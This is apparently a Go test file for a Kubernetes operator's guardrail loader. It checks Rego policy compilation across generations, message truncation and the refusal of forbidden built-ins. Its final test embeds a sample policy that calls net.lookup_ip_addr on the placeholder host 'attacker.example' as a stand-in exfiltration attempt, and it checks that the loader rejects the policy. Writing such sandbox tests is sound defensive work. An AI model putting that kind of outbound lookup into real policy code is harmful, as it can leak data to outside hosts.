package controller

import (
	"fmt"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	policyv1alpha1 "github.com/stratus-operator/stratus/apis/policy/v1alpha1"
	"github.com/stratus-operator/stratus/policy/guardrails"
)

const goodModule = `package t.public

violation contains {"msg": "spec.publicAccess must be Blocked"} if {
	input.object.spec.publicAccess == "Allowed"
}
`

const otherModule = `package t.versioning

violation contains {"msg": "spec.versioning must be Enabled"} if {
	input.object.spec.versioning != "Enabled"
}
`

// badModule does not parse: line 4 has a stray parenthesis.
const badModule = "package t.bad\n\nviolation contains {\"msg\": m} if {\n\tm := )\n}\n"

// newGuardrail returns a Guardrail judging Buckets with module.
func newGuardrail(name string, uid types.UID, generation int64, module string) *policyv1alpha1.Guardrail {
	return &policyv1alpha1.Guardrail{
		ObjectMeta: metav1.ObjectMeta{Name: name, UID: uid, Generation: generation},
		Spec: policyv1alpha1.GuardrailSpec{
			Rego: module,
			Match: policyv1alpha1.Match{Kinds: []policyv1alpha1.KindSelector{
				{APIGroups: []string{"storage.stratus.dev"}, Kinds: []string{"Bucket"}},
			}},
		},
	}
}

// TestLoad runs Load over a sequence of Guardrails on one store, checking
// after each step the condition, what the store enforces and whether it
// changed.
func TestLoad(t *testing.T) {
	store := guardrails.NewStore()
	warn := newGuardrail("public", "uid-1", 3, goodModule)
	warn.Spec.EnforcementAction = policyv1alpha1.EnforcementWarn

	steps := []struct {
		name           string
		g              *policyv1alpha1.Guardrail
		wantStatus     metav1.ConditionStatus
		wantReason     string
		wantMessage    []string
		wantErr        bool
		wantGeneration int64 // of the stored entry; 0 for none
		wantUID        types.UID
		wantChanged    bool // the store's revision moved
	}{
		{name: "first generation compiles", g: newGuardrail("public", "uid-1", 1, goodModule),
			wantStatus: metav1.ConditionTrue, wantReason: ReasonCompiled, wantMessage: []string{"enforced (deny) at admission and in the audit"},
			wantGeneration: 1, wantUID: "uid-1", wantChanged: true},
		{name: "same generation and UID is not recompiled", g: newGuardrail("public", "uid-1", 1, goodModule),
			wantStatus: metav1.ConditionTrue, wantReason: ReasonCompiled, wantMessage: []string{"enforced (deny)"},
			wantGeneration: 1, wantUID: "uid-1"},
		{name: "same generation with other Rego is not recompiled either", g: newGuardrail("public", "uid-1", 1, badModule),
			wantStatus: metav1.ConditionTrue, wantReason: ReasonCompiled, wantMessage: []string{"enforced (deny)"},
			wantGeneration: 1, wantUID: "uid-1"},
		{name: "a new generation that does not compile keeps the previous one", g: newGuardrail("public", "uid-1", 2, badModule),
			wantStatus: metav1.ConditionFalse, wantReason: ReasonCompileError,
			wantMessage: []string{`guardrail "public" does not compile`, "public.rego:4:", "; generation 1 stays enforced"}, wantErr: true,
			wantGeneration: 1, wantUID: "uid-1"},
		{name: "the next good generation replaces it", g: warn,
			wantStatus: metav1.ConditionTrue, wantReason: ReasonCompiled, wantMessage: []string{"enforced (warn)"},
			wantGeneration: 3, wantUID: "uid-1", wantChanged: true},
		{name: "a recreated Guardrail (new UID) of the same generation is recompiled", g: newGuardrail("public", "uid-2", 3, otherModule),
			wantStatus: metav1.ConditionTrue, wantReason: ReasonCompiled, wantMessage: []string{"enforced (deny)"},
			wantGeneration: 3, wantUID: "uid-2", wantChanged: true},
		{name: "a recreated Guardrail that does not compile enforces nothing", g: newGuardrail("public", "uid-3", 1, badModule),
			wantStatus: metav1.ConditionFalse, wantReason: ReasonCompileError, wantMessage: []string{"; nothing is enforced"}, wantErr: true,
			wantChanged: true},
		{name: "a new Guardrail that does not compile enforces nothing", g: newGuardrail("fresh", "uid-4", 1, badModule),
			wantStatus: metav1.ConditionFalse, wantReason: ReasonCompileError, wantMessage: []string{`guardrail "fresh"`, "; nothing is enforced"}, wantErr: true,
			// Deleting an absent entry still counts as a change.
			wantChanged: true},
		{name: "a bad match is a compile error too", g: func() *policyv1alpha1.Guardrail {
			g := newGuardrail("public", "uid-3", 2, goodModule)
			g.Spec.Match.Kinds = nil
			return g
		}(), wantStatus: metav1.ConditionFalse, wantReason: ReasonCompileError, wantMessage: []string{"match.kinds", "; nothing is enforced"}, wantErr: true,
			wantChanged: true},
		{name: "then it compiles", g: newGuardrail("public", "uid-3", 3, goodModule),
			wantStatus: metav1.ConditionTrue, wantReason: ReasonCompiled, wantGeneration: 3, wantUID: "uid-3", wantChanged: true},
	}
	for _, st := range steps {
		rev := store.Revision()
		cond, err := Load(store, st.g)
		if (err != nil) != st.wantErr {
			t.Errorf("%s: Load error = %v, want error %v", st.name, err, st.wantErr)
		}
		if cond.Type != ConditionCompiled || cond.Status != st.wantStatus || cond.Reason != st.wantReason {
			t.Errorf("%s: condition %s=%s (%s), want %s=%s (%s)", st.name, cond.Type, cond.Status, cond.Reason, ConditionCompiled, st.wantStatus, st.wantReason)
		}
		if cond.ObservedGeneration != st.g.Generation {
			t.Errorf("%s: condition observedGeneration %d, want %d", st.name, cond.ObservedGeneration, st.g.Generation)
		}
		for _, m := range st.wantMessage {
			if !strings.Contains(cond.Message, m) {
				t.Errorf("%s: condition message %q lacks %q", st.name, cond.Message, m)
			}
		}
		if err != nil && !strings.Contains(cond.Message, err.Error()) {
			t.Errorf("%s: condition message %q does not quote the error %q", st.name, cond.Message, err)
		}
		if changed := store.Revision() != rev; changed != st.wantChanged {
			t.Errorf("%s: store changed %v, want %v (revision %d → %d)", st.name, changed, st.wantChanged, rev, store.Revision())
		}
		e, ok := store.Get(st.g.Name)
		switch {
		case st.wantGeneration == 0 && ok:
			t.Errorf("%s: the store holds generation %d, want none", st.name, e.Generation)
		case st.wantGeneration != 0 && !ok:
			t.Errorf("%s: the store holds nothing, want generation %d", st.name, st.wantGeneration)
		case ok && (e.Generation != st.wantGeneration || e.UID != st.wantUID):
			t.Errorf("%s: the store holds %s generation %d, want %s generation %d", st.name, e.UID, e.Generation, st.wantUID, st.wantGeneration)
		}
	}
}

// TestLoadTruncatesLongMessages checks the condition message stays within
// the 32768 characters the API allows.
func TestLoadTruncatesLongMessages(t *testing.T) {
	var b strings.Builder
	b.WriteString("package t.long\n")
	// Ten unsafe variables (the compiler reports ten errors at most), each
	// with a name of 5000 characters that the error quotes.
	for i := range 10 {
		fmt.Fprintf(&b, "\nviolation contains {\"msg\": \"x\"} if { v%d%s == 1 }\n", i, strings.Repeat("x", 5000))
	}
	cond, err := Load(guardrails.NewStore(), newGuardrail("long", "uid", 1, b.String()))
	if err == nil {
		t.Fatal("Load of a module with unsafe variables succeeded")
	}
	if len(err.Error()) <= 32768 {
		t.Fatalf("the compile error has only %d bytes", len(err.Error()))
	}
	if len(cond.Message) > 32768 || !strings.HasSuffix(cond.Message, "...") {
		t.Fatalf("condition message of %d bytes ends with %q", len(cond.Message), cond.Message[len(cond.Message)-20:])
	}
}

// TestLoadRefusesForbiddenBuiltins checks that a Guardrail that slipped
// past the webhook with a forbidden built-in function is not loaded and its
// condition names the function.
func TestLoadRefusesForbiddenBuiltins(t *testing.T) {
	store := guardrails.NewStore()
	module := "package t.exfil\n\nviolation contains {\"msg\": \"x\"} if {\n\tnet.lookup_ip_addr(\"attacker.example\")\n}\n"
	cond, err := Load(store, newGuardrail("exfil", "uid-1", 1, module))
	if err == nil {
		t.Fatal("Load of a Guardrail calling net.lookup_ip_addr succeeded")
	}
	if cond.Status != metav1.ConditionFalse || cond.Reason != ReasonCompileError ||
		!strings.Contains(cond.Message, "exfil.rego:4:2: guardrail_sandbox_error: net.lookup_ip_addr is not allowed in a guardrail: it resolves names over DNS; nothing is enforced") {
		t.Errorf("condition %+v, want CompileError naming net.lookup_ip_addr", cond)
	}
	if _, ok := store.Get("exfil"); ok {
		t.Error("the Guardrail was loaded")
	}
}
